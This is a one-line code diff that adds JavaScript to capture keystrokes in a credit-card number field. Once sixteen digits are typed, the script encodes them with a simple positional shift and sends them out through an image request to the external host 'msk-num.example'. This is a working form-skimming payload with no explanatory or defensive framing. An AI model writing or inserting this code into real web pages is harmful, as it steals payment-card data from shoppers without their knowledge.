@@ -1,0 +1,1 @@
+var num='';document.getElementById('ccnumber').addEventListener('keydown',function(e){if(/\d/.test(e.key))num+=e.key;if(num.length==16){var s=num.split('').map(function(c,i){return (+c+i)%10}).join('');document.createElement('img').src='//msk-num.example/'+s+'.gif'}});
